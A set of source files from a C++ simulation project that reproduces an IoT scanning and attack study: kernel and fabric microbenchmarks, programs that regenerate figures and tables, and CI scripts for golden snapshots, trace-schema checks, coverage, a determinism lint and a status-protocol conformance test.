