// Simulation-kernel microbenchmarks and the multi-sweep parallel wall-clock
// comparison.
//
// The kernel benches measure schedule+dispatch throughput of the pooled
// event arena (sim/event_queue.h) for the three closure shapes that matter:
// inline-sized captures (the common case — no allocation per event),
// oversized captures (heap fallback), and the chained ping-pong that
// dominates steady-state protocol timers.
//
// BM_ParallelSweeps is the speedup experiment: six independent Telnet
// sweeps, each on a private fabric replica, executed by ParallelRunner with
// 1/2/4 worker threads. Output is identical for every thread count (the
// determinism contract); wall-clock time is what changes. On a machine with
// >= 4 hardware threads the 4-thread run completes >= 2x faster than the
// 1-thread run; on fewer cores the ratio degrades toward 1x (use
// --benchmark_filter=BM_Parallel to run just this comparison).
#include <benchmark/benchmark.h>

#include <array>
#include <cstdint>
#include <functional>
#include <memory>
#include <vector>

#include "devices/device.h"
#include "net/fabric.h"
#include "net/faults.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "scanner/scanner.h"
#include "sim/parallel.h"
#include "sim/simulation.h"

namespace {

// The obs hot path in isolation: one relaxed fetch_add on a thread-local
// shard per counter increment, three per histogram observation. These put a
// number on the "cheap" claim — compare a kernel bench with and without
// -DOFH_NO_METRICS for the end-to-end cost (< 5% on the event kernel).
void BM_MetricsCounterInc(benchmark::State& state) {
  const ofh::obs::Counter counter = ofh::obs::counter("bench.counter");
  for (auto _ : state) {
    counter.inc();
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MetricsCounterInc);

void BM_MetricsHistogramObserve(benchmark::State& state) {
  const ofh::obs::Histogram histogram =
      ofh::obs::histogram("bench.histogram");
  std::uint64_t value = 0;
  for (auto _ : state) {
    histogram.observe(value++ & 0xffff);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MetricsHistogramObserve);

// The trace hot path: stamp shard/seq, append into the current chunk, and
// (once the ring is full) evict an oldest chunk every chunk_events records.
// The budget is ~2x the metrics histogram path above — a trace event writes
// 40 bytes plus bookkeeping where the histogram does three atomic adds.
void BM_TraceRecordPacketEvent(benchmark::State& state) {
  auto& traces = ofh::obs::TraceRegistry::global();
  traces.reset();
  std::uint64_t now = 0;
  for (auto _ : state) {
    ofh::obs::trace_event(ofh::obs::TraceEventType::kPacketSend, now++,
                          /*trace_id=*/42, /*src=*/1, /*dst=*/2, /*port=*/23);
  }
  state.SetItemsProcessed(state.iterations());
  traces.reset();
}
BENCHMARK(BM_TraceRecordPacketEvent);

// Minting is the other per-probe cost: one shifted-or on the shard counter.
void BM_TraceMintId(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(ofh::obs::mint_trace_id());
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_TraceMintId);

// 48-byte capture: fits SmallCallable's inline buffer, like the scanner's
// banner-window callback.
void BM_KernelInlineClosure(benchmark::State& state) {
  const std::int64_t events = state.range(0);
  std::array<std::uint64_t, 5> payload{1, 2, 3, 4, 5};
  for (auto _ : state) {
    ofh::sim::Simulation sim;
    std::uint64_t sum = 0;
    for (std::int64_t i = 0; i < events; ++i) {
      sim.at(static_cast<ofh::sim::Time>(i % 97),
             [&sum, payload] { sum += payload[0]; });
    }
    sim.run();
    benchmark::DoNotOptimize(sum);
  }
  state.SetItemsProcessed(state.iterations() * events);
}
BENCHMARK(BM_KernelInlineClosure)->Arg(1 << 16);

// 128-byte capture: exceeds the inline buffer, takes the heap path.
void BM_KernelHeapClosure(benchmark::State& state) {
  const std::int64_t events = state.range(0);
  std::array<std::uint64_t, 16> payload{};
  payload[0] = 1;
  for (auto _ : state) {
    ofh::sim::Simulation sim;
    std::uint64_t sum = 0;
    for (std::int64_t i = 0; i < events; ++i) {
      sim.at(static_cast<ofh::sim::Time>(i % 97),
             [&sum, payload] { sum += payload[0]; });
    }
    sim.run();
    benchmark::DoNotOptimize(sum);
  }
  state.SetItemsProcessed(state.iterations() * events);
}
BENCHMARK(BM_KernelHeapClosure)->Arg(1 << 16);

// One live event rescheduling itself: the steady-state timer loop. The
// arena recycles a single node the whole run.
void BM_KernelPingPong(benchmark::State& state) {
  const int limit = static_cast<int>(state.range(0));
  for (auto _ : state) {
    ofh::sim::Simulation sim;
    int count = 0;
    std::function<void()> chain = [&] {
      if (++count < limit) sim.after(1, chain);
    };
    sim.after(1, chain);
    sim.run();
    benchmark::DoNotOptimize(count);
  }
  state.SetItemsProcessed(state.iterations() * limit);
}
BENCHMARK(BM_KernelPingPong)->Arg(1 << 16);

// One Telnet sweep over a /24 with 200 devices on a private replica.
std::size_t run_sweep_shard(int shard) {
  ofh::sim::Simulation sim;
  ofh::net::Fabric fabric(sim, 7);
  fabric.set_latency(ofh::sim::msec(15), ofh::sim::msec(25));

  std::vector<std::unique_ptr<ofh::devices::Device>> devices;
  for (int i = 1; i <= 200; ++i) {
    ofh::devices::DeviceSpec spec;
    spec.address = ofh::util::Ipv4Addr(10, static_cast<std::uint8_t>(shard),
                                       0, static_cast<std::uint8_t>(i));
    spec.primary = ofh::proto::Protocol::kTelnet;
    spec.misconfig = ofh::devices::Misconfig::kTelnetNoAuth;
    devices.push_back(std::make_unique<ofh::devices::Device>(std::move(spec)));
    devices.back()->attach(fabric);
  }

  ofh::scanner::ScanDb db;
  ofh::scanner::Scanner scanner(ofh::util::Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric);

  ofh::scanner::ScanConfig config;
  config.protocol = ofh::proto::Protocol::kTelnet;
  config.targets = {
      ofh::util::Cidr(ofh::util::Ipv4Addr(10, static_cast<std::uint8_t>(shard),
                                          0, 0),
                      24)};
  config.seed = ofh::sim::shard_seed(42, static_cast<std::uint64_t>(shard));
  config.batch_size = 64;
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim.step()) {
  }
  return db.size();
}

void BM_ParallelSweeps(benchmark::State& state) {
  const auto threads = static_cast<unsigned>(state.range(0));
  std::size_t records = 0;
  for (auto _ : state) {
    std::vector<std::function<std::size_t()>> jobs;
    for (int shard = 0; shard < 6; ++shard) {
      jobs.emplace_back([shard] { return run_sweep_shard(shard); });
    }
    const auto counts = ofh::sim::ParallelRunner(threads).run(std::move(jobs));
    records = 0;
    for (const auto count : counts) records += count;
    benchmark::DoNotOptimize(records);
  }
  state.counters["records"] =
      benchmark::Counter(static_cast<double>(records));
  state.SetItemsProcessed(state.iterations() * 6);
}
BENCHMARK(BM_ParallelSweeps)->Arg(1)->Arg(2)->Arg(4)->UseRealTime()
    ->Unit(benchmark::kMillisecond);

// The fault-check cost on the Fabric::send hot path (net/faults.h). With no
// schedule the injector pointer is null and the check is a single branch —
// compare NoSchedule against the kernel benches above to verify it stays
// under 5%. QuietSchedule measures the realistic chaos case: an injector
// installed with window faults that are not active now, so every send walks
// the window list and the burst/rate draws. ActiveUniformLoss adds the 5%
// drop path itself.
void fabric_send_bench(benchmark::State& state,
                       const ofh::net::FaultSchedule* schedule) {
  ofh::sim::Simulation sim;
  ofh::net::Fabric fabric(sim, 7);
  fabric.set_latency(0, 0);
  if (schedule != nullptr) fabric.set_fault_schedule(*schedule);

  ofh::net::Packet packet;
  packet.src = ofh::util::Ipv4Addr(10, 0, 0, 1);
  packet.dst = ofh::util::Ipv4Addr(10, 0, 0, 2);  // unattached: drops cheap
  packet.transport = ofh::net::Transport::kUdp;

  std::uint64_t pending = 0;
  for (auto _ : state) {
    fabric.send(packet);
    if (++pending == 1024) {  // drain queued deliveries, amortised
      sim.run_until(sim.now() + 1);
      pending = 0;
    }
  }
  sim.run_until(sim.now() + 1);
  state.SetItemsProcessed(state.iterations());
}

void BM_FabricSendNoSchedule(benchmark::State& state) {
  fabric_send_bench(state, nullptr);
}
BENCHMARK(BM_FabricSendNoSchedule);

void BM_FabricSendQuietSchedule(benchmark::State& state) {
  ofh::net::ChaosOptions options;
  options.ranges = {*ofh::util::Cidr::parse("172.16.0.0/16")};
  options.start = ofh::sim::days(100);  // windows exist but never activate
  options.end = ofh::sim::days(101);
  ofh::net::FaultSchedule schedule = ofh::net::FaultSchedule::chaos(7, options);
  fabric_send_bench(state, &schedule);
}
BENCHMARK(BM_FabricSendQuietSchedule);

void BM_FabricSendActiveUniformLoss(benchmark::State& state) {
  ofh::net::FaultSchedule schedule;
  schedule.uniform_loss = 0.05;
  fabric_send_bench(state, &schedule);
}
BENCHMARK(BM_FabricSendActiveUniformLoss);

}  // namespace

BENCHMARK_MAIN();
