// Regenerates Figure 8: total attacks by day, with scanning-service listing
// markers and the day-24/day-26 DoS spikes.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 8 (attacks by day)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig8_daily(study).c_str(), stdout);
  return 0;
}
