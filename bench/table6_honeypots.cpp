// Regenerates Table 6: honeypots detected through Telnet banner signatures,
// and shows the poisoning effect of skipping the fingerprint filter.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Table 6 (honeypot fingerprinting)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();
  std::fputs(ofh::core::report_table6_honeypots(study).c_str(), stdout);
  std::printf(
      "\nFindings before honeypot filtering: %zu, after: %zu "
      "(honeypots would have poisoned %zu entries)\n",
      study.unfiltered_findings().size(), study.findings().size(),
      study.unfiltered_findings().size() - study.findings().size());
  return 0;
}
