// Regenerates Figure 7: attack trends by type (%) and protocol.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 7 (attack trends by protocol)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig7_trends(study).c_str(), stdout);
  return 0;
}
