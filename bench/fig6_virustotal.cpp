// Regenerates Figure 6: share of unknown/suspicious sources flagged
// malicious by VirusTotal, per protocol, honeypots (H) vs telescope (T).
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 6 (VirusTotal flag rates)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig6_virustotal(study).c_str(), stdout);
  return 0;
}
