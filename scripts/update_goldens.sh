#!/usr/bin/env bash
# Regenerates the golden report snapshots in tests/goldens/ from the current
# tree. Run this when a pipeline change intentionally shifts a rendered
# table, then review the resulting diff like any other code change —
# "the goldens moved" IS the review surface.
#
# Usage: scripts/update_goldens.sh
set -euo pipefail
cd "$(dirname "$0")/.."

cmake --preset default
cmake --build --preset default -j "$(nproc)" --target golden_report_test

echo "==> rewriting tests/goldens/*.txt"
OFH_UPDATE_GOLDENS=1 ./build/tests/golden_report_test

echo "==> verifying the rewritten goldens pass"
./build/tests/golden_report_test

git --no-pager diff --stat -- tests/goldens || true
echo "==> done; review the diff above before committing"
