#!/usr/bin/env bash
# Regenerates the golden report snapshots in tests/goldens/ and the pinned
# scenario expectations in tests/scenarios/*.ofh from the current tree. Run
# this when a pipeline change intentionally shifts a rendered table, then
# review the resulting diff like any other code change — "the goldens moved"
# IS the review surface.
#
# Usage: scripts/update_goldens.sh
set -euo pipefail
cd "$(dirname "$0")/.."

cmake --preset default
cmake --build --preset default -j "$(nproc)" \
  --target golden_report_test scenario_runner

echo "==> rewriting tests/goldens/*.txt"
OFH_UPDATE_GOLDENS=1 ./build/tests/golden_report_test

echo "==> verifying the rewritten goldens pass"
./build/tests/golden_report_test

# Scenario expectations: stale '#' regexp lines are re-anchored onto the
# drifted report line (via their literal prefix) and replaced with an
# exact-match escape; hand-written structural patterns that still match are
# left untouched. --update runs single-threaded for speed — the 1/2/8
# byte-identity gate reruns in CI.
echo "==> rewriting stale expectations in tests/scenarios/*.ofh"
./build/tools/scenario/scenario_runner --update --threads=1 \
  tests/scenarios/*.ofh

echo "==> verifying the corpus passes"
./build/tools/scenario/scenario_runner --threads=1 tests/scenarios/*.ofh

git --no-pager diff --stat -- tests/goldens tests/scenarios || true
echo "==> done; review the diff above before committing"
