#!/usr/bin/env python3
"""Schema check for the exported Chrome trace JSON (core/trace_report.cpp).

python3 -m json.tool already proved the file parses; this script checks the
trace-event-format invariants the exporter promises, so a refactor that
emits well-formed-but-wrong JSON still fails CI:

  * top level: {"displayTimeUnit": "ms", "traceEvents": [...]}
  * every event has name/cat/ph/ts/pid, ph is "X" (phase span) or "i"
    (instant), timestamps are non-negative integers (sim microseconds)
  * spans carry a non-negative dur; instants carry scope "t" and an args
    object with trace_id/src/dst/port
  * instants are sorted by ts — the (time, shard, seq) merge order

Usage: scripts/check_trace.py <trace.json>
"""
import json
import sys


def fail(message):
    print(f"check_trace: FAIL: {message}", file=sys.stderr)
    sys.exit(1)


def main():
    if len(sys.argv) != 2:
        fail("usage: check_trace.py <trace.json>")
    with open(sys.argv[1], encoding="utf-8") as handle:
        trace = json.load(handle)

    if not isinstance(trace, dict):
        fail("top level is not an object")
    if trace.get("displayTimeUnit") != "ms":
        fail("missing displayTimeUnit")
    events = trace.get("traceEvents")
    if not isinstance(events, list):
        fail("traceEvents is not a list")

    spans = 0
    instants = 0
    last_instant_ts = -1
    for i, event in enumerate(events):
        where = f"traceEvents[{i}]"
        for key in ("name", "cat", "ph", "ts", "pid"):
            if key not in event:
                fail(f"{where} lacks {key!r}")
        ts = event["ts"]
        if not isinstance(ts, int) or ts < 0:
            fail(f"{where} has non-sim timestamp {ts!r}")
        if event["ph"] == "X":
            spans += 1
            if not isinstance(event.get("dur"), int) or event["dur"] < 0:
                fail(f"{where} span has bad dur {event.get('dur')!r}")
        elif event["ph"] == "i":
            instants += 1
            if event.get("s") != "t":
                fail(f"{where} instant lacks thread scope")
            args = event.get("args")
            if not isinstance(args, dict):
                fail(f"{where} instant lacks args")
            for key in ("trace_id", "src", "dst", "port"):
                if key not in args:
                    fail(f"{where} args lacks {key!r}")
            if ts < last_instant_ts:
                fail(f"{where} breaks the (time, shard, seq) merge order")
            last_instant_ts = ts
        else:
            fail(f"{where} has unknown phase {event['ph']!r}")

    print(f"check_trace: OK ({spans} spans, {instants} instant events)")


if __name__ == "__main__":
    main()
