#!/usr/bin/env python3
"""Aggregate gcov line coverage for src/ and enforce a floor.

Fallback used by scripts/coverage.sh when gcovr is not installed: walks the
coverage build tree for .gcda files, asks gcov for JSON intermediate output,
and aggregates executed/executable lines per source file under src/.

Exit code 1 when total line coverage falls below --fail-under.
"""
import argparse
import json
import os
import subprocess
import sys


def gcov_json(gcda, build_dir):
    """Returns the parsed JSON report(s) for one .gcda, or [] on failure."""
    # gcda must be absolute: gcov runs with the gcda's directory as cwd (so
    # it finds the matching .gcno), which breaks build-dir-relative paths.
    gcda = os.path.abspath(gcda)
    try:
        out = subprocess.run(
            ["gcov", "--json-format", "--stdout", gcda],
            cwd=build_dir, capture_output=True, check=True).stdout
    except (subprocess.CalledProcessError, OSError):
        return []
    reports = []
    # One JSON document per compilation unit, newline-separated.
    for line in out.splitlines():
        line = line.strip()
        if not line:
            continue
        try:
            reports.append(json.loads(line))
        except json.JSONDecodeError:
            continue
    return reports


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--build-dir", required=True,
                        help="coverage build tree holding the .gcda files")
    parser.add_argument("--root", default=".",
                        help="repository root (default: cwd)")
    parser.add_argument("--src-prefix", default="src/",
                        help="only files under this repo-relative prefix count")
    parser.add_argument("--fail-under", type=float, default=0.0,
                        help="minimum acceptable line coverage percentage")
    args = parser.parse_args()

    root = os.path.abspath(args.root)
    gcdas = []
    for dirpath, _dirnames, filenames in os.walk(args.build_dir):
        gcdas.extend(os.path.join(dirpath, f)
                     for f in filenames if f.endswith(".gcda"))
    if not gcdas:
        print("error: no .gcda files under", args.build_dir, file=sys.stderr)
        print("       build the `coverage` preset and run ctest first",
              file=sys.stderr)
        return 1

    # (file -> line -> hit) so lines shared by several objects (headers,
    # template instantiations) count once, as executed if ANY object ran them.
    lines_by_file = {}
    for gcda in gcdas:
        for report in gcov_json(gcda, os.path.dirname(gcda)):
            for entry in report.get("files", []):
                path = os.path.abspath(os.path.join(root, entry["file"])) \
                    if not os.path.isabs(entry["file"]) else entry["file"]
                rel = os.path.relpath(path, root)
                if not rel.startswith(args.src_prefix):
                    continue
                hits = lines_by_file.setdefault(rel, {})
                for line in entry.get("lines", []):
                    number = line["line_number"]
                    hits[number] = hits.get(number, False) or \
                        line.get("count", 0) > 0

    total = covered = 0
    print(f"{'file':<44} {'lines':>6} {'hit':>6} {'cover':>7}")
    for rel in sorted(lines_by_file):
        hits = lines_by_file[rel]
        file_total = len(hits)
        file_covered = sum(1 for hit in hits.values() if hit)
        total += file_total
        covered += file_covered
        pct = 100.0 * file_covered / file_total if file_total else 100.0
        print(f"{rel:<44} {file_total:>6} {file_covered:>6} {pct:>6.1f}%")

    if total == 0:
        print("error: no executable lines found under", args.src_prefix,
              file=sys.stderr)
        return 1

    pct = 100.0 * covered / total
    print(f"{'TOTAL':<44} {total:>6} {covered:>6} {pct:>6.1f}%")
    if pct < args.fail_under:
        print(f"FAIL: line coverage {pct:.1f}% is below the "
              f"{args.fail_under:.1f}% floor", file=sys.stderr)
        return 1
    print(f"OK: line coverage {pct:.1f}% >= {args.fail_under:.1f}% floor")
    return 0


if __name__ == "__main__":
    sys.exit(main())
