#!/usr/bin/env bash
# Determinism lint: build ofh-lint and run it over src/ with the repo config.
# This is a required CI gate — any error-severity finding (including a
# suppression pragma with no justification, or a stale suppression that no
# longer suppresses anything) fails the job. See DESIGN.md "Determinism lint"
# for the rule catalog and suppression policy.
#
# The run is also timed: the lint pass is budgeted at 5 seconds wall clock so
# it stays cheap enough to run in every CI flavor and every pre-push loop.
# Exceeding the budget fails the script — a slow lint gets skipped, and a
# skipped lint proves nothing.
#
# Usage: scripts/lint.sh [--build-dir DIR] [extra ofh-lint args...]
#   --build-dir DIR  reuse an existing configured build tree (e.g. build-ci
#                    in CI) instead of configuring the default preset.
set -euo pipefail
cd "$(dirname "$0")/.."

BUILD_DIR=""
if [[ "${1:-}" == "--build-dir" ]]; then
  BUILD_DIR="$2"
  shift 2
fi

# Prefer an explicitly requested tree, then any already-configured one.
if [[ -z "$BUILD_DIR" ]]; then
  for d in build build-ci build-ci-asan build-ci-tsan; do
    if [[ -f "$d/CMakeCache.txt" ]]; then
      BUILD_DIR="$d"
      break
    fi
  done
fi
if [[ -z "$BUILD_DIR" ]]; then
  echo "==> No configured build tree found; configuring the 'default' preset"
  cmake --preset default >/dev/null
  BUILD_DIR=build
fi

cmake --build "$BUILD_DIR" --target ofh-lint -j "$(nproc)" >/dev/null

echo "==> ofh-lint over src/ (config: .ofh-lint.toml, build: $BUILD_DIR)"
START_MS=$(($(date +%s%N) / 1000000))
"$BUILD_DIR/tools/lint/ofh-lint" --config .ofh-lint.toml --root . "$@" src
ELAPSED_MS=$((($(date +%s%N) / 1000000) - START_MS))

# Timing log + budget: the determinism lint must stay under ~5s so it can be
# a required job in every CI flavor without anyone being tempted to skip it.
BUDGET_MS=5000
echo "==> lint wall time: ${ELAPSED_MS} ms (budget: ${BUDGET_MS} ms)"
if (( ELAPSED_MS > BUDGET_MS )); then
  echo "error: lint pass exceeded its ${BUDGET_MS} ms budget" >&2
  exit 1
fi
