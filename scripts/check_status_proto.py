#!/usr/bin/env python3
"""Black-box conformance check for the status wire protocol.

Drives core/status_service.h's endpoint from an independent implementation
of the framing (struct pack/unpack, no shared code) and asserts the
contract documented in the header:

  * status / metrics / trace-stats round-trip with the expected response
    tags and parseable payloads
  * progress responses honor the client cursor
  * an unknown request tag answers error code 1 (unknown-tag)
  * an oversized frame answers error code 2 (oversized) and the server
    closes the connection afterwards
  * a malformed request (trailing bytes) answers error code 3
  * a truncated frame followed by EOF is dropped without a response
  * stop (tag 7) is forbidden (code 5) unless the server allows it

Usage:
  check_status_proto.py --unix PATH [--stop] [--wait-ready SECONDS]
  check_status_proto.py --port N [--host H] [--stop] [--wait-ready SECONDS]

--stop sends the stop request at the end (the live_study --serve driver
uses this to shut the example down). --wait-ready polls the connect until
the server is up. Exits 0 when every check passes.
"""

import argparse
import socket
import struct
import sys
import time

ERROR_TAG = 0x7F
RESPONSE_BIT = 0x80
KIND_NAMES = ["phase-enter", "phase-exit", "sweep-progress", "sweep-done",
              "day-advance"]

checks = []


def check(name, condition, detail=""):
    checks.append((name, bool(condition)))
    mark = "ok" if condition else "FAIL"
    suffix = f" ({detail})" if detail and not condition else ""
    print(f"  {mark:4} {name}{suffix}")


def connect(args, timeout=5.0):
    if args.unix:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(timeout)
        sock.connect(args.unix)
    else:
        sock = socket.create_connection((args.host, args.port),
                                        timeout=timeout)
    return sock


def send_frame(sock, body):
    sock.sendall(struct.pack(">I", len(body)) + body)


def recv_exact(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            return None
        data += chunk
    return data


def recv_frame(sock):
    header = recv_exact(sock, 4)
    if header is None:
        return None
    (length,) = struct.unpack(">I", header)
    return recv_exact(sock, length)


def roundtrip(args, body):
    with connect(args) as sock:
        send_frame(sock, body)
        return recv_frame(sock)


def parse_error(body):
    if body is None or len(body) < 4 or body[0] != ERROR_TAG:
        return None, None
    code = body[1]
    (msg_len,) = struct.unpack(">H", body[2:4])
    return code, body[4:4 + msg_len].decode("utf-8", "replace")


def check_status(args):
    body = roundtrip(args, bytes([1]))
    check("status response tag", body and body[0] == (RESPONSE_BIT | 1))
    if not body or body[0] != (RESPONSE_BIT | 1):
        return
    # Walk the documented payload to prove it parses to the byte.
    view, off = {}, 1

    def u64():
        nonlocal off
        (v,) = struct.unpack(">Q", body[off:off + 8])
        off += 8
        return v

    def u8():
        nonlocal off
        v = body[off]
        off += 1
        return v

    def str8():
        nonlocal off
        n = u8()
        s = body[off:off + n].decode("utf-8", "replace")
        off += n
        return s

    view["epoch"] = u64()
    view["phase"] = u8()
    view["phase_name"] = str8()
    view["sim_now"] = u64()
    view["sim_day"] = u64()
    view["sweep_done"] = u64()
    view["sweep_total"] = u64()
    sweeps = []
    for _ in range(u8()):
        sweeps.append((str8(), u64(), u64()))
    view["trace_recorded"] = u64()
    view["trace_dropped"] = u64()
    view["events_published"] = u64()
    kinds = [u64() for _ in range(u8())]
    for _ in range(6):  # rss, hwm, hosts/s, packets/s, eta, wall
        u64()
    check("status payload parses exactly", off == len(body),
          f"consumed {off} of {len(body)}")
    check("status kind counters sum to published",
          sum(kinds) == view["events_published"],
          f"{kinds} vs {view['events_published']}")
    check("status sweep fold consistent",
          view["sweep_done"] == sum(s[1] for s in sweeps)
          and view["sweep_total"] == sum(s[2] for s in sweeps))
    return view


def check_progress(args):
    body = roundtrip(args, bytes([2]))
    check("progress response tag", body and body[0] == (RESPONSE_BIT | 2))
    if not body or body[0] != (RESPONSE_BIT | 2):
        return
    next_cursor, lost = struct.unpack(">QQ", body[1:17])
    (count,) = struct.unpack(">H", body[17:19])
    # Each event: seq u64 + kind u8 + phase u8 + shard u16 + 3x u64.
    check("progress payload sized to count",
          len(body) == 19 + count * 36,
          f"count={count} len={len(body)}")
    check("progress cursor advances by count + lost",
          next_cursor >= count)
    # Re-poll from the returned cursor: the batch must not repeat.
    body2 = roundtrip(args, bytes([2]) + struct.pack(">Q", next_cursor))
    next2, _lost2 = struct.unpack(">QQ", body2[1:17])
    check("progress cursor honored on re-poll", next2 >= next_cursor)


def check_text(args, tag, name):
    body = roundtrip(args, bytes([tag]))
    ok = body and body[0] == (RESPONSE_BIT | tag)
    check(f"{name} response tag", ok)
    if ok:
        (length,) = struct.unpack(">I", body[1:5])
        check(f"{name} length prefix exact", len(body) == 5 + length)


def check_trace_stats(args):
    body = roundtrip(args, bytes([6]))
    check("trace-stats response tag", body and body[0] == (RESPONSE_BIT | 6))
    if body and body[0] == (RESPONSE_BIT | 6):
        (count,) = struct.unpack(">H", body[1:3])
        check("trace-stats payload sized to count",
              len(body) == 3 + count * 18)


def check_hostile(args):
    code, _ = parse_error(roundtrip(args, bytes([0xEE])))
    check("unknown tag answers code 1", code == 1, f"code={code}")

    code, _ = parse_error(roundtrip(args, bytes([1, 0xAA])))
    check("trailing bytes answer code 3", code == 3, f"code={code}")

    # Oversized declared length: error 2, then the server hangs up.
    with connect(args) as sock:
        send_frame(sock, bytes(65))
        code, _ = parse_error(recv_frame(sock))
        check("oversized frame answers code 2", code == 2, f"code={code}")
        check("oversized frame closes connection",
              recv_frame(sock) is None)

    # Truncated frame + EOF: the server must drop it without replying.
    with connect(args) as sock:
        sock.sendall(struct.pack(">I", 10) + bytes([1]))  # 9 bytes missing
        sock.shutdown(socket.SHUT_WR)
        check("truncated frame dies silently", recv_frame(sock) is None)

    # A second connection still works after the hostile ones.
    body = roundtrip(args, bytes([1]))
    check("server healthy after hostile frames",
          body and body[0] == (RESPONSE_BIT | 1))


def check_stop(args, expect_allowed):
    body = roundtrip(args, bytes([7]))
    if expect_allowed:
        check("stop accepted", body == bytes([RESPONSE_BIT | 7]),
              f"body={body!r}")
    else:
        code, _ = parse_error(body)
        check("stop forbidden answers code 5", code == 5, f"code={code}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--unix")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--stop", action="store_true",
                        help="send the stop request at the end")
    parser.add_argument("--wait-ready", type=float, default=0.0,
                        help="seconds to poll for the server to come up")
    args = parser.parse_args()
    if not args.unix and not args.port:
        parser.error("need --unix or --port")

    deadline = time.monotonic() + args.wait_ready
    while True:
        try:
            with connect(args, timeout=1.0):
                break
        except OSError:
            if time.monotonic() >= deadline:
                print("check_status_proto: cannot connect", file=sys.stderr)
                return 1
            time.sleep(0.1)

    print("status protocol conformance:")
    check_status(args)
    check_progress(args)
    check_text(args, 3, "metrics")
    check_text(args, 4, "phase-metrics")
    check_text(args, 5, "degradation")
    check_trace_stats(args)
    check_hostile(args)
    if args.stop:
        check_stop(args, expect_allowed=True)

    failed = [name for name, ok in checks if not ok]
    if failed:
        print(f"FAILED: {len(failed)}/{len(checks)} checks", file=sys.stderr)
        return 1
    print(f"all {len(checks)} checks passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
