#!/usr/bin/env bash
# CI entry point: builds and tests the three configurations that gate every
# change, all with -Werror.
#
#   1. ci            — RelWithDebInfo, the tier-1 verify configuration
#   2. ci-asan-ubsan — Debug + AddressSanitizer + UndefinedBehaviorSanitizer;
#                      the adversarial decode harness runs here, so any OOB
#                      read or UB in a codec fails the job
#   3. ci-tsan       — Debug + ThreadSanitizer; runs only the thread-labelled
#                      tests (the ones that spawn ThreadPool workers), so any
#                      data race in the parallel sweep layer fails the job
#
# Usage: scripts/ci.sh [--fast]
#   --fast  run only the codec-labelled tests in the sanitizer pass
#           (the quick pre-push loop; full CI runs everything)
set -euo pipefail
cd "$(dirname "$0")/.."

FAST=0
if [[ "${1:-}" == "--fast" ]]; then
  FAST=1
fi

echo "==> [1/3] RelWithDebInfo + -Werror"
cmake --preset ci
cmake --build --preset ci -j "$(nproc)"
ctest --test-dir build-ci --output-on-failure -j "$(nproc)" -LE scenario

# Scenario corpus (tests/scenarios/*.ofh): each file runs the full study at
# scan_threads 1/2/8 and must emit byte-identical reports before its regexp
# expectations are checked. Serial on purpose: the sweep inside each case is
# the parallelism, and interleaved output would bury a first-diff line.
echo "==> scenario corpus (serial, threads 1/2/8 byte-identity)"
ctest --test-dir build-ci --output-on-failure -L scenario

# Determinism lint: the static half of the byte-identical-replay contract.
# Required — an unsuppressed nondeterminism source, unordered-iteration in an
# export path, or a justification-free suppression fails CI here.
echo "==> determinism lint (ofh-lint)"
scripts/lint.sh --build-dir build-ci

# Scale trajectory: the full pipeline at 1/512 and 1/64, plus the scan
# phase on forked worker fleets of 1/2/4 digest-checked against the
# in-process baseline. Non-gating on throughput (numbers drift with CI
# hardware) — but a conservation-identity violation or a fleet/baseline
# digest divergence makes perf_scale exit nonzero, and that DOES fail the
# job: the flow-level fast paths must never lose a packet, and the
# distributed merge must never reorder a byte.
echo "==> scale trajectory (perf_scale, conservation+identity gated)"
./build-ci/bench/perf_scale --scales=512,64 --workers=1,2,4 \
  --workers-scale=512 --out=build-ci/BENCH_scale.json

# The exported Chrome trace must actually load: parse it with the stock
# json module, then check the trace-event-format invariants, then make sure
# the chain report reconstructed the paper's escalation pattern.
echo "==> trace export validation"
./build-ci/examples/trace_export build-ci/trace.json build-ci/chains.txt
python3 -m json.tool build-ci/trace.json > /dev/null
python3 scripts/check_trace.py build-ci/trace.json
grep -q "scan -> brute-force -> injection escalations:" build-ci/chains.txt

# Live introspection end-to-end: a small study serves the status endpoint
# while ofh-top polls it and check_status_proto.py (an independent Python
# implementation of the framing) runs the protocol conformance suite —
# hostile frames included — then shuts the example down via the stop
# request. The client drive is gating: a wedged server, a malformed status
# payload or a mis-framed response fails CI here.
echo "==> live status endpoint (live_study + ofh-top + protocol checks)"
OFH_STATUS_SOCK="build-ci/ofh-status.sock"
./build-ci/examples/live_study --unix "$OFH_STATUS_SOCK" --scale 16384 \
  --attack-scale 512 --days 1 --threads 2 --serve \
  > build-ci/live_study.log 2>&1 &
LIVE_STUDY_PID=$!
python3 scripts/check_status_proto.py --unix "$OFH_STATUS_SOCK" \
  --wait-ready 30
./build-ci/tools/ofh-top/ofh-top --unix "$OFH_STATUS_SOCK" --once --raw \
  > build-ci/ofh-top.raw
grep -q '^phase=' build-ci/ofh-top.raw
grep -q '^events_published=' build-ci/ofh-top.raw
